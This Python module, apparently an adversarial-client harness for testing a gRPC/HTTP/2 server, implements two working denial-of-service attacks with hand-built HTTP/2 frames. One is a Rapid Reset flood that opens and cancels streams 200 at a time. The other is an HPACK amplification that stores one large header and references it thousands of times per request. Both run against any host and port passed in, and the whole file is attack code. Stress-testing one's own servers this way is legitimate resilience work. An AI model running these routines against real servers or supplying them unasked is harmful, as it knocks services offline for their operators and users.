"""Callers that mean harm, by frames that no HTTP/2 library would send so fast."""

import socket
import struct
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS = 0, 1, 3, 4
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW_SIZE = 4
AT_ONCE = 200
"""Frames that one write takes."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Write one HTTP/2 frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def connect(target: str, settings: bytes = b"") -> socket.socket:
    """Open an HTTP/2 connection."""
    host, port = target.split(":")
    opened = socket.create_connection((host, int(port)), timeout=10)
    opened.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return opened


def call_headers(path: str, *more: tuple[str, str]) -> bytes:
    """Write a call's headers so that a server need remember none of them."""
    headers = [
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "test"),
        ("content-type", "application/grpc"), ("te", "trailers"), *more,
    ]  # fmt: skip
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*pair) for pair in headers])


def literal(text: bytes) -> bytes:
    """Write a string as HPACK has it, without Huffman's code."""
    if len(text) < 127:
        return bytes([len(text)]) + text
    left, written = len(text) - 127, bytearray([127])
    while left >= 128:
        written.append(left % 128 + 128)
        left //= 128
    return bytes(written) + bytes([left]) + text


def rapid_reset(target: str, path: str, seconds: float) -> tuple[int, int]:
    """Open and cancel calls on one connection after the other for so long; return how many, on how many connections."""
    block = call_headers(path)
    calls = connections = 0
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        connections += 1
        stream = 1
        with connect(target) as opened:
            try:
                while time.monotonic() < ends:
                    frames = bytearray()
                    for _ in range(AT_ONCE):
                        frames += frame(HEADERS, END_HEADERS, stream, block)
                        frames += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                        stream += 2
                    opened.sendall(frames)
                    calls += AT_ONCE
            except OSError:  # it was closed
                continue
    return calls, connections


def header_references(target: str, path: str, seconds: float, references: int = 4000, size: int = 3900) -> int:
    """Let a server remember one long header, and refer to it thousands of times in every call; return how many calls.

    A reference is one byte; what it stands for has ``size`` bytes.
    """
    long = b"\x40" + literal(b"x") + literal(b"v" * size)
    calls = 0
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        with connect(target) as opened:
            stream = 1
            try:
                opened.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, call_headers(path) + long))
                while time.monotonic() < ends:
                    stream += 2
                    block = call_headers(path) + b"\xbe" * references
                    opened.sendall(frame(HEADERS, END_HEADERS, stream, block))
                    calls += 1
            except OSError:  # it was closed
                continue
    return calls
